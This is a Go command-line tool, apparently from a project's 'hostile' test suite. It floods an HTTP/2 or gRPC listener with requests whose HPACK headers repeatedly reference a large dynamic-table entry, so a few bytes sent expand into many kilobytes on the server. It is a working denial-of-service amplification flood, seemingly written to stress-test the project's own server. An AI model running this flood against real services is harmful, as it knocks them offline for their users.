// Command hpack16a floods complete requests whose header blocks reference a
// large entry of the HPACK dynamic table many times (the sixteenth hostile
// pass, A): the first request of a connection adds a -vlen byte literal field
// with incremental indexing; every request then carries -refs one-byte
// indexed references to it, so about 1+refs bytes on the wire decode to
// refs*vlen bytes of header values on the server, before any token is
// checked. -refs 0 is the same flood without them (the baseline). Up to
// -inflight requests in flight per connection, answers read; -tls for ALPN
// h2 over TLS (the HTTP listeners, or a gRPC listener with TLS); -grpc sends
// a gRPC request (application/grpc, an empty message) else Connect JSON
// "{}". Prints requests sent and answers by :status and grpc-status.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

var (
	addr     = flag.String("addr", "127.0.0.1:47000", "listener")
	path     = flag.String("path", "/grpc.health.v1.Health/Check", "request path")
	useTLS   = flag.Bool("tls", true, "TLS with ALPN h2")
	grpcReq  = flag.Bool("grpc", true, "a gRPC request (else Connect JSON)")
	token    = flag.String("token", "", "bearer token")
	conns    = flag.Int("conns", 4, "connections")
	refs     = flag.Int("refs", 15, "indexed references to the big field per request")
	vlen     = flag.Int("vlen", 4000, "bytes of the big field's value")
	inflight = flag.Int("inflight", 60, "requests in flight per connection")
	hold     = flag.Duration("hold", 10*time.Second, "how long")
	again    = flag.Bool("reconnect", true, "connect again when the server closes")
	src      = flag.String("src", "", "source address to bind (a peer other than loopback)")
)

var (
	answers probe.Tally
	sent    atomic.Int64
)

func count(k string) { answers.Count(k) }

func main() {
	flag.Parse()
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			end := time.Now().Add(*hold)
			for time.Now().Before(end) {
				if err := run(end); err != nil {
					s := err.Error()
					if len(s) > 60 {
						s = s[len(s)-60:]
					}
					count("conn end: " + s)
				}
				if !*again {
					return
				}
			}
		})
	}
	wg.Wait()
	fmt.Printf("%10d  requests sent, %.0f/s\n", sent.Load(), float64(sent.Load())/hold.Seconds())
	answers.Print(os.Stdout, 10)
}

func run(stop time.Time) error {
	var nc net.Conn
	var err error
	d := &net.Dialer{}
	if *src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(*src)}
	}
	if *useTLS {
		nc, err = probe.DialTLS(d, *addr)
	} else {
		nc, err = d.Dial("tcp", *addr)
	}
	if err != nil {
		return err
	}
	defer nc.Close()
	_ = nc.SetDeadline(stop.Add(2 * time.Second))
	fr, err := probe.Start(nc, 65536, probe.BigWindow)
	if err != nil {
		return err
	}
	fr.MaxHeaderListSize = 1 << 20
	_ = fr.WriteWindowUpdate(0, 1<<30)
	var wmu sync.Mutex
	slots := make(chan struct{}, *inflight)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = probe.ReadLoop(fr, &wmu, false, func(f http2.Frame) {
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				st, gs := "", ""
				for _, h := range f.Fields {
					if h.Name == ":status" {
						st = h.Value
					}
					if h.Name == "grpc-status" {
						gs = h.Value
					}
				}
				if f.StreamEnded() {
					select {
					case <-slots:
					default:
					}
					count(":status " + st + " grpc-status " + gs)
				}
			case *http2.DataFrame:
				if f.StreamEnded() {
					select {
					case <-slots:
					default:
					}
					count("data end")
				}
			case *http2.RSTStreamFrame:
				select {
				case <-slots:
				default:
				}
				count("rst " + f.ErrCode.String())
			case *http2.GoAwayFrame:
				count("goaway " + f.ErrCode.String())
			}
		})
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	big := strings.Repeat("a", *vlen)
	first := true
	ctype, body := "application/grpc", []byte{0, 0, 0, 0, 0}
	if !*grpcReq {
		ctype, body = "application/json", []byte("{}")
	}
	for id := uint32(1); time.Now().Before(stop); id += 2 {
		select {
		case slots <- struct{}{}:
		case <-done:
			return fmt.Errorf("closed by server")
		case <-time.After(time.Until(stop)):
			return nil
		}
		hb.Reset()
		probe.WriteFields(enc, probe.Head("POST", "https", *path, *addr, ctype))
		if !*grpcReq {
			_ = enc.WriteField(hpack.HeaderField{Name: "connect-protocol-version", Value: "1"})
		}
		probe.WriteFields(enc, probe.Bearer(*token))
		if *refs > 0 {
			if first {
				_ = enc.WriteField(hpack.HeaderField{Name: "x-b", Value: big})
				first = false
			}
			// the encoder indexes x-b: each further identical field is one indexed byte
			for range *refs {
				_ = enc.WriteField(hpack.HeaderField{Name: "x-b", Value: big})
			}
		}
		blk := append([]byte(nil), hb.Bytes()...)
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true})
		if err == nil {
			err = fr.WriteData(id, true, body)
		}
		wmu.Unlock()
		if err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}
